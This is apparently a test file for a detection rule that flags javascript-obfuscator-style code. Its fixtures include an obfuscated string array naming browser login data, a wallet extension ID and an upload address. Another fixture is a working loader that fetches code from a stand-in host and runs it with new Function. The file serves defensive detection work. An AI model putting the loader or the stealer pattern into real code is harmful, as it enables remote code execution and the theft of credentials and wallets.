import { ruleTest } from '../../testing/rule-tester.js';
import rule from './obfuscator-io.js';

// A javascript-obfuscator 4.x-shaped sample (string array + rotation + accessor), written for this test.
const strings = ["'child_process'", "'Login\\x20Data'", "'nkbihfbeogaeaoehlefnkodbefgpgknn'", "'http://203.0.113.9:1224/uploads'", "'1234567abc'", "'log'"];
const obf = [
  `function _0x1b2c(){const _0x5a1f3e=[${strings.join(',')}];_0x1b2c=function(){return _0x5a1f3e;};return _0x1b2c();}`,
  'function _0x4e7a(_0x2d8f11,_0x3c9a22){const _0x1b2c33=_0x1b2c();return _0x4e7a=function(_0x4e7a44,_0x1a2b55){_0x4e7a44=_0x4e7a44-0x0;let _0x5c6d66=_0x1b2c33[_0x4e7a44];return _0x5c6d66;},_0x4e7a(_0x2d8f11,_0x3c9a22);}',
  "(function(_0x3a1b77,_0x2c4d88){const _0x5e6f99=_0x4e7a,_0x1a2baa=_0x3a1b77();while(!![]){try{const _0x4c5dbb=parseInt(_0x5e6f99(0x4));if(_0x4c5dbb===_0x2c4d88)break;else _0x1a2baa['push'](_0x1a2baa['shift']());}catch(_0x3e4fcc){_0x1a2baa['push'](_0x1a2baa['shift']());}}}(_0x1b2c,0x12d687));",
  "const _0x2f3a01=require(_0x4e7a(0x0)),_0x2f3a02=_0x4e7a(0x1),_0x2f3a03=_0x4e7a(0x2),_0x2f3a04=_0x4e7a(0x3);console[_0x4e7a(0x5)](_0x2f3a02,_0x2f3a03,_0x2f3a04);",
].join('');

// The pre-2.0 javascript-obfuscator shape (var accessor `a=a-0x0`, `while(--n)` rotation), written for this test: a
// route that downloads a body and runs it with new Function.
const oldArr = "const _0x3f1a=['aHR0cHM6Ly9','hcGkuZXhhbXBsZS5pbnZhbGlkL3Yx','L2NmZw==','get','then','data','base64','toString','from'];";
const oldRot = "(function(_0x2d8f05,_0x4b81bb){const _0x4d74cb=function(_0x32719f){while(--_0x32719f){_0x2d8f05['push'](_0x2d8f05['shift']());}};_0x4d74cb(++_0x4b81bb);}(_0x3f1a,0x9));";
const oldAcc = "const _0x4e2c=function(_0x2d8f05,_0x4b81bb){_0x2d8f05=_0x2d8f05-0x0;return _0x3f1a[_0x2d8f05];};";
const oldLoader = `${oldArr}${oldRot}${oldAcc}const _0x5a=require('axios');const _0x1b=Buffer[_0x4e2c('0x8')](_0x4e2c('0x0')+_0x4e2c('0x1')+_0x4e2c('0x2'),_0x4e2c('0x6'))[_0x4e2c('0x7')]();_0x5a[_0x4e2c('0x3')](_0x1b)[_0x4e2c('0x4')](_0x9c=>{(new Function('r',_0x9c[_0x4e2c('0x5')]))(require);});`;
// The same shape whose only Function call is obfuscator.io's constant global-object helper, and no network.
const oldHelper = `${oldArr}${oldRot}${oldAcc}const _0x5b=require('fs');const _0x6c=Function('return (function() '+'{}.constructor("return this")( )'+');')();_0x5b[_0x4e2c('0x5')]=_0x6c;`;

ruleTest(rule, {
  clean: [
    {
      name: 'hash code with hex constants (no string array)',
      file: 'src/sha256.js',
      code: 'const K=[0x428a2f98,0x71374491,0xb5c0fbcf];function rotr(x,n){return (x>>>n)|(x<<(32-n));}\nfor(let i=0;i<64;i++){const t=(h+0x5be0cd19)>>>0;}\n',
    },
    { name: 'a file that mentions _0x names in prose', file: 'docs/notes.js', code: '// obfuscator output uses _0x1234 names\nconst a = 1;\n' },
  ],
  flagged: [
    { name: 'obfuscated payload in a vendored bundle (low, not decoded)', file: 'node_modules/x/dist/index.js', code: `${obf}\n`, findings: [{ line: 1, severity: 'low', confidence: 'low' }] },
    {
      name: 'obfuscated stealer appended to a config file',
      file: 'tailwind.config.js',
      code: `module.exports = { content: [] };\n${obf}\n`,
      findings: [{ line: 2, confidence: 'high', message: /string-array rotation loop, self-replacing string accessor/ }],
    },
    {
      name: 'pre-2.0 obfuscator.io route that runs a downloaded body with new Function (critical)',
      file: 'server/routes/payment.js',
      code: `${oldLoader}\n`,
      findings: [{ line: 1, severity: 'critical', confidence: 'high', message: /string-array rotation loop, self-replacing string accessor.*runs built or received code with new Function/ }],
    },
    {
      name: 'same shape, only the constant global-object Function helper and no network: high, not a loader',
      file: 'lib/licence.js',
      code: `${oldHelper}\n`,
      findings: [{ line: 1, severity: 'high', confidence: 'high' }],
    },
  ],
});
